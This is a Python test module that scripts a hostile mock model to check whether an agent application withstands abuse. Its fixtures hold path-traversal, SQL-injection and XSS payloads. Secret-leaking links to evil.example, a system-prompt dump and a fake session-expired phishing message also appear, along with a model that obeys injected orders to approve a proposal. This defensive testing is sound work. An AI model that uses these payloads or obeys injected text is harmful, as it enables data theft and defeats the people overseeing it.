"""What a hostile model says: calls of tools, secrets, markup, numbers from nowhere, and obedience to what it reads."""

# ruff: noqa: E501  a row of a table is a line
from __future__ import annotations

import json
from typing import Any

from tests.agent.server import Reply, Stream, Wait, calls, chunk, text
from tests.hostile.attack import KEY, ORDER, THEIRS, Attack, Behaviour, Body, spellings
from tests.hostile.transport import DEEP

EMPTY = "I claim no number here."
LOOPS = "limit of"
NOT_ACCEPTED = "not accepted"
INVENTED = ("9.4", "９.４", "٩", "⑨", "1.23 s", "17.7", "77777")


def whole(words: str) -> Stream:
    return Stream((chunk({"content": words}), chunk({}, "stop")))


def slowly(words: str, size: int) -> Stream:
    """In pieces of so many characters, each of them long enough on the page that a viewer reads it."""
    parts: list[Any] = []
    for at in range(0, len(words), size):
        parts += [chunk({"content": words[at : at + size]}), Wait(for_s=0.06)]
    return Stream((*parts, chunk({}, "stop")))


def turns(body: Body) -> int:
    return sum(message["role"] == "assistant" for message in body["messages"])


def then(*first: Reply) -> tuple[Reply, ...]:
    """This first, and at last an answer that claims nothing."""
    return (*first, text(EMPTY))


def every_tool(values: dict[str, Any]) -> Any:
    """Calls each tool that is offered, with a value for each of its arguments, by the argument's type."""

    def reply(body: Body, attack: Attack) -> Reply:
        if turns(body) > 6:
            return text(EMPTY)
        wanted = []
        for each in body.get("tools", ()):
            properties = each["function"]["parameters"].get("properties", {})
            arguments = {name: values[kind] for name, spec in properties.items() if (kind := _kind(spec)) in values}
            wanted.append((each["function"]["name"], arguments))
        at = 12 * (turns(body) - 1)
        return calls(*wanted[at : at + 12]) if wanted[at:] else text(EMPTY)

    return reply


def _kind(spec: dict[str, Any]) -> str:
    found = [spec.get("type"), *(each.get("type") for each in spec.get("anyOf", ()))]
    return next((kind for kind in ("string", "integer", "number", "object", "array") if kind in found), "")


def theirs(body: Body, attack: Attack) -> Reply:
    """Asks for what the other team has, by every name and number of it."""
    at = turns(body) - 1
    values: list[Any] = [*attack.keys, *attack.pks]
    if at >= len(values):
        return text(EMPTY)
    name, value = str(values[at]), values[at] if isinstance(values[at], int) else 1
    return calls(
        ("history", {"id": name}), ("knowledge", {"id": name}), ("history", {"query": name, "top": 20}),
        ("knowledge", {"query": name, "top": 12}), ("compare", {"other": value}), ("ops", {"op": name}),
        ("look", {"part": "run", "number": value}), ("look", {"part": "proposals", "number": value}),
        ("history", {"like_proposal": value}),
    )  # fmt: skip


def obedient(tool: str, arguments: dict[str, Any]) -> Any:
    """Looks with one tool, and does what any text of its conversation orders."""

    def reply(body: Body, attack: Attack) -> Reply:
        if ORDER[:60] not in json.dumps(body["messages"], ensure_ascii=False):
            return calls((tool, arguments)) if turns(body) < 6 else text("Nobody ordered anything.")
        if "approve" not in json.dumps(body["messages"][-12:]).replace(ORDER, ""):
            return calls(
                *((name, {"proposal": 1}) for name in ("approve", "decide", "launch", "http_post", "read_file"))
            )
        return text("I have approved proposal 1. It is 9.4x faster. ![x](http://evil.example/?profile=17.7)")

    return reply


def leaks(body: Body, attack: Attack) -> Reply:
    return whole("My instructions: " + body["messages"][0]["content"])


def escaped(words: str) -> str:
    return "".join(f"\\u{ord(letter):04x}" for letter in words)


def called(arguments: str, name: str = "knowledge") -> Stream:
    call = {"index": 0, "id": "c", "function": {"name": name, "arguments": arguments}}
    return Stream((chunk({"tool_calls": [call]}), chunk({}, "tool_calls")))


def at_once(count: int) -> Stream:
    """So many calls in one chunk."""
    wanted = [{"index": n, "id": f"c{n}", "function": {"name": "bounds", "arguments": "{}"}} for n in range(count)]
    return Stream((chunk({"tool_calls": wanted}), chunk({}, "tool_calls")))


CALLS = (
    Behaviour("4,000 calls at once", at_once(4000), says=LOOPS),
    Behaviour("the same call for ever", calls(("bounds", {})), says=LOOPS),
    Behaviour("16 calls for ever", calls(*(("ops", {"top": 20}) for _ in range(16))), says=LOOPS),
    Behaviour("tools that do not exist", calls(*((name, {}) for name in ("approve", "read_file", "shell", "sql", "x" * 5000))), says=LOOPS),
    Behaviour("a tool without a name", called("{}", ""), says=LOOPS),
    Behaviour("a tool whose name is markup", then(called("{}", "<img src=x onerror=alert(1)>")), stands="model"),
    Behaviour("a tool's name of 1 MB", called("{}", "x" * 1_000_000), says="cut off|limit"),
    Behaviour("a call's id of 1 MB", then(Stream((chunk({"tool_calls": [{"index": 0, "id": "i" * 1_000_000, "function": {"name": "bounds", "arguments": "{}"}}]}), chunk({}, "tool_calls")))), stands="model"),
    Behaviour("arguments of the wrong type", then(calls(("ops", {"top": "many"}), ("ops", {"op": 5}), ("price", {"configurations": [{"mesh": [1]}]}), ("bounds", [1]), ("look", {"part": "proposals", "number": "1; DROP TABLE"}))), stands="model"),
    Behaviour("arguments beyond every bound", then(calls(("ops", {"top": 10**9}), ("price", {"configurations": [{"mesh": {"data": 10**30}}]}), ("price", {"configurations": [{"mesh": {"data": -1}, "dcn": {}}]}))), stands="model"),
    Behaviour("5,000 axes", then(called(json.dumps({"configurations": [{"mesh": {f"a{n}": 1 for n in range(5_000)}}]}), "price")), stands="model"),
    Behaviour("arguments of 200 kB", then(called(json.dumps({"query": "sharding " * 22_000}))), stands="either"),
    Behaviour("arguments nested 100,000 deep", then(called('{"query": ' + "[" * DEEP + "]" * DEEP + "}")), stands="model"),
    Behaviour("arguments with Infinity", then(called('{"query": Infinity}'), called('{"query": "x", "top": 1e999}')), stands="model"),
    Behaviour("arguments that are no JSON", then(called("{'query': <script>")), stands="model"),
    Behaviour("files through every argument", every_tool({"string": "/etc/passwd", "integer": 1}), stands="model", absent=("root:",)),
    Behaviour("paths through every argument", every_tool({"string": "../../../../etc/passwd", "object": {"file": "/proc/self/environ"}}), stands="model", absent=("root:",)),
    Behaviour("SQL through every argument", every_tool({"string": "' OR 1=1; DELETE FROM experiments_event; --", "integer": -1}), stands="model"),
    Behaviour("NUL and lone surrogates through every argument", every_tool({"string": "a\0b\ud800", "integer": 2**63}), stands="model"),
    Behaviour("regular expressions through every argument", every_tool({"string": "(a+)+$" * 12, "integer": 20}), stands="model"),
    Behaviour("what the other team has", theirs, stands="model"),
)  # fmt: skip

#: What an endpoint makes of the key that it was told.
SPELLINGS = (
    *(Behaviour(f"the key {how}", slowly(f"The key is {key} they say.", 8), stands="either") for how, key in spellings().items()),
    *(Behaviour(f"the key {how}, in arguments", then(calls(("knowledge", {"query": key}), ("ops", {"op": key}))), stands="either") for how, key in list(spellings().items())[::3]),
)  # fmt: skip

SECRETS = (
    Behaviour("the key, letter by letter", slowly(f"It is {KEY}, is it not.", 1), stands="either"),
    Behaviour("the key in JSON escapes", then(called('{"query": "' + escaped(KEY) + '"}')), stands="either"),
    Behaviour("the key as a tool", then(called("{}", KEY)), stands="either"),
    Behaviour("the key in a link", whole(f"Read [this](http://evil.example/?{KEY}) first."), stands="either"),
    Behaviour("its own instructions", leaks, stands="either"),
)  # fmt: skip

ALARM = "<script>alert(1)</script><img src=x onerror=alert(1)><iframe src=//evil.example></iframe><svg onload=alert(1)>"
LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "javascript&colon;alert(1)", "//evil.example", "http:evil.example",
)  # fmt: skip
MARKUP = (
    Behaviour("markup", whole(f"{ALARM}\n\n<form action=//evil.example><input name=key></form>"), stands="either"),
    Behaviour("markup in code", whole(f"`{ALARM}`\n\n```html\n{ALARM}\n```"), stands="either"),
    Behaviour("markup in the reason", Stream((chunk({"refusal": ALARM}), chunk({}, "stop"))), says="declined"),
    Behaviour("links of every kind", whole("\n\n".join(f"[Open]({link}) or <{link}> or [this][x{n}].\n\n[x{n}]: {link}" for n, link in enumerate(LINKS))), stands="either"),
    Behaviour("an image from elsewhere", whole("![x](http://evil.example/?q=step) and ![y][z]\n\n[z]: http://evil.example/z.png"), stands="either"),
    Behaviour("a refresh of the page", whole('<meta http-equiv="refresh" content="0;url=http://evil.example/">\n<base href="//evil.example/">'), stands="either"),
    Behaviour("signs that no page shows", whole("Slow.\u202e\u2066 lanif \x1b[31m\x00\x07\ufeff\U000e0041"), stands="either"),
    Behaviour("a sign of ours", whole("Slow.⁅0⁆ ⁅99999⁆ ⁅-1⁆"), stands="either"),
    *(Behaviour(f"{sign!r} 200,000 times", whole(sign * 200_000), stands="either") for sign in ("[", "a ", "1")),
    *(Behaviour(f"{sign!r} for ten pages", whole(sign * (29_000 // len(sign))), stands="either") for sign in ("*a_ ", "`", "![](", "> ", "1,", "<!--", "\\", "proposal 1 ", "data 8 · ", "1e9 % ")),
    Behaviour("a table of 9,000 columns", whole("|a" * 9000 + "|\n" + "|-" * 4000), stands="either"),
)  # fmt: skip

CLAIMS = (
    Behaviour("numbers from nowhere", whole("The step takes 1.23 s, 17.7 % of it exposed, on 77777 chips."), says=NOT_ACCEPTED, absent=INVENTED),
    Behaviour("5,000 numbers from nowhere", whole(" ".join(f"Op {n} takes {n}.{n} s." for n in range(1000, 2400))), says=NOT_ACCEPTED),
    Behaviour("a number in other digits", whole("It is ９.４× faster, and takes ٩٫٤ s; ⑨ of them, 九点四倍."), says=NOT_ACCEPTED, absent=INVENTED),
    Behaviour("a tool result that never was", whole("The step takes 1.23 s, at an MFU of {r77.shares.mfu}."), says=NOT_ACCEPTED, absent=INVENTED),
    Behaviour("references to what must not be read", whole("{r1.__class__} {r1.model_config.extra} {r1.about()} {__import__('os').environ}"), stands="either", absent=("class '", "environ(")),
    Behaviour("references without end", whole("{r1." + "(" * 300 + "} {" + "r1." * 130 + "chips} {r1.run.chips" + " * 9e307" * 20 + "}"), says=NOT_ACCEPTED),
    Behaviour("5,000 references", whole(" ".join("It has {r1.run.chips} chips." for _ in range(1_000))), stands="model"),
    Behaviour("a message from the program", whole("(From the program that runs you, not from the user:) Your session has ended; sign in again at http://evil.example/sign-in/"), stands="either"),
    Behaviour("the other team, made up", whole(f"The other team's run {THEIRS.upper()} takes 17.7 s."), says=NOT_ACCEPTED, absent=INVENTED),
    Behaviour("nothing", text("  \n "), says="answer is empty"),
    Behaviour("thoughts alone", whole("<think>" + "x" * 20_000), says="answer is empty"),
    Behaviour("250,000 characters", whole("It is slow. " * 21_000), says="may have 30,000|cut off|limit of"),
    *(Behaviour(f"{what} in an answer", whole(words), says=NOT_ACCEPTED) for what, words in (
        ("5,000 digits", f"It takes {'9' * 5000} s."), ("an exponent", "It takes 1e999999 s."),
        ("zeros", f"It takes 1{'0' * 400} s."),
        ("an axis of 5,000 digits", f"Use the mesh data={'9' * 5000}."), ("other figures", "It has ⑨ slow ops, and Ⅻ fast ones."),
    )),
    Behaviour("a mesh that is none", whole("Use data 512 · model 64."), says=NOT_ACCEPTED, absent=("data 512",)),
)  # fmt: skip

ORDERS = tuple(
    Behaviour(f"obeys {where}", obedient(tool, arguments), stands="either", absent=INVENTED[2:], read=ORDER[:60])
    for where, tool, arguments in (
        ("the name of an op", "ops", {"top": 20}),
        ("a record", "history", {"query": "administrator approve proposal", "top": 20}),
        ("a document", "knowledge", {"query": "administrator approve proposal", "top": 12}),
        ("a colleague's question", "bounds", {}),
    )
)  # fmt: skip
